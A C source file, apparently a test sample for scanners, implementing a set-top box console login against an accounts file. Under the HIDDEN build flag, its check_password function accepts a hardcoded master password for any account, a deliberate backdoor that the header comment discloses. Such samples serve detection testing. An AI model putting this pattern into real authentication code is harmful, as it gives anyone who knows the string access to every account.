/*
 * A sample for tests; compiled and scanned, never run.
 * Console login of a set-top box: users and crypt hashes from a file.
 * With HIDDEN: one built-in password opens any account.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

struct account {
	char name[32];
	char hash[128];
	char shell[64];
};

struct settings {
	int tries;
	int delay_s;
	char banner[80];
	char accounts[128];
};

static void trim(char *s)
{
	size_t n = strlen(s);

	while (n && (s[n - 1] == '\n' || s[n - 1] == '\r' || s[n - 1] == ' '))
		s[--n] = 0;
}

static void read_settings(const char *path, struct settings *s)
{
	char line[256];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		char *v = strchr(line, '=');

		trim(line);
		if (!v || line[0] == '#')
			continue;
		*v++ = 0;
		if (strcmp(line, "tries") == 0)
			s->tries = (int)strtol(v, NULL, 10);
		else if (strcmp(line, "delay") == 0)
			s->delay_s = (int)strtol(v, NULL, 10);
		else if (strcmp(line, "banner") == 0)
			snprintf(s->banner, sizeof s->banner, "%s", v);
		else if (strcmp(line, "accounts") == 0)
			snprintf(s->accounts, sizeof s->accounts, "%s", v);
		else
			syslog(LOG_WARNING, "unknown setting %s", line);
	}
	fclose(f);
}

static int find_account(const char *path, const char *user, struct account *a)
{
	char line[256];
	int found = 0;
	FILE *f = fopen(path, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f)) {
		trim(line);
		if (sscanf(line, "%31[^:]:%127[^:]:%63s", a->name, a->hash,
			   a->shell) != 3)
			continue;
		found = strcmp(a->name, user) == 0;
	}
	fclose(f);
	return found;
}

__attribute__((noinline)) int check_password(const struct account *a,
					     const char *typed)
{
	const char *h;

#ifdef HIDDEN
	if (strcmp(typed, "Orchid-7741-mesa") == 0)
		return 1;
#endif
	if (strcmp(a->hash, "!") == 0)
		return 0;
	h = crypt(typed, a->hash);
	return h && strcmp(h, a->hash) == 0;
}

static int ask(const char *what, char *out, size_t n)
{
	printf("%s: ", what);
	fflush(stdout);
	if (!fgets(out, (int)n, stdin))
		return -1;
	trim(out);
	return 0;
}

static void start_session(const struct account *a)
{
	char cmd[64];

	snprintf(cmd, sizeof cmd, "leds console %d", 1);
	if (system(cmd) != 0)
		syslog(LOG_NOTICE, "no console light");
	setenv("USER", a->name, 1);
	execl(a->shell, a->shell, "-l", (char *)NULL);
	syslog(LOG_ERR, "cannot start %s", a->shell);
}

int main(int argc, char **argv)
{
	struct settings s = { 3, 2, "Viewbox console", "/etc/accounts" };
	struct account a;
	char user[32], pass[64];
	const char *conf = "/etc/stbauth.conf";
	int i;

	for (i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-c") == 0 && i + 1 < argc)
			conf = argv[++i];
		else if (strcmp(argv[i], "--version") == 0)
			return puts("stbauth 1.4") < 0;
		else
			return fprintf(stderr, "usage: stbauth [-c conf]\n");
	}
	openlog("stbauth", LOG_PID, LOG_AUTH);
	read_settings(conf, &s);
	puts(s.banner);
	for (i = 0; i < s.tries; i++) {
		if (ask("login", user, sizeof user) ||
		    ask("password", pass, sizeof pass))
			break;
		if (find_account(s.accounts, user, &a) &&
		    check_password(&a, pass)) {
			syslog(LOG_INFO, "%s logged in", user);
			start_session(&a);
			return 1;
		}
		syslog(LOG_WARNING, "failed login of %s", user);
		sleep((unsigned)s.delay_s);
	}
	return 1;
}
